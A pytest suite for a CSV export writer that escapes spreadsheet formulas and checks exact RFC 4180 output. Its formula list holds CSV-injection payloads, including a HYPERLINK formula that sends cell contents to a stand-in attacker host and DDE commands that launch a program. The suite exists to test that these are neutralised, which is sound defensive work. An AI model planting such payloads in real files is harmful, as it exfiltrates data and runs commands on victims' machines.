"""The one CSV writer: what spreadsheets compute stays text, what programs read comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.export.csv import write


def lines(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def cell(text: str) -> str:
    return lines(write(["a"], [[text]]))[1][0]


def test_the_bytes_are_those_of_rfc_4180_with_a_mark() -> None:
    content = write(["名称", "value"], [["甲,乙", Fraction(1, 4)], ['他说"好"', None], ["第一行\n第二行", -3]])
    expected = '\ufeff名称,value\r\n"甲,乙",0.25\r\n"他说""好""",\r\n"第一行\n第二行",-3\r\n'
    assert content == expected.encode()


def test_a_table_without_rows_has_its_columns() -> None:
    assert write(["a", "b"], []) == "\ufeffa,b\r\n".encode()


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx",
    "＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x",
    " =1", "\u3000=1", "\xa0=1", "\ufeff=1", "-", "=", "--1", "-1 MWh", "+1-1", "-1\n", "-１２", "-٣", "-1,5",
    '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert lines(write([text], []))[0] == [f"'{text}"]  # in a column's name as well


PLAIN = ["", "0", "-1", "+1", "-12.5", "1e3", "-1.5e-3", "甲", "甲=乙", "1+1", "'=1", "a\tb", "2023-01-01", "017"]


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_figures_are_exact_decimal_text() -> None:
    row = [Fraction(-1, 3), Fraction(10**20), Decimal("1E+3"), date(2025, 12, 31), True, False, 10**18]
    expected = ["-0.333333333333", "1" + "0" * 20, "1000", "2025-12-31", "true", "false", "1" + "0" * 18]
    assert lines(write(list("abcdefg"), [row]))[1] == expected


def test_mistakes_of_ours_are_told() -> None:
    with pytest.raises(TypeError, match="float"):
        write(["a"], [[0.5]])  # type: ignore[list-item]
    with pytest.raises(ValueError, match="1 cells for 2 columns"):
        write(["a", "b"], [["x"]])


def test_a_lone_surrogate_is_shown_and_breaks_nothing() -> None:
    assert cell("甲\ud800") == "甲\\ud800"


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)))
def test_every_text_comes_back_and_none_is_a_formula(rows: list[list[str]]) -> None:
    content = write(["a", "b"], rows)
    assert content == write(["a", "b"], rows)
    back = lines(content)[1:]
    assert len(back) == len(rows)
    for given_row, read in zip(rows, back, strict=True):
        for text, got in zip(given_row, read, strict=True):
            assert got in (text, f"'{text}")
            assert got[:1] not in tuple("=@\t\r\n＝＋－＠")
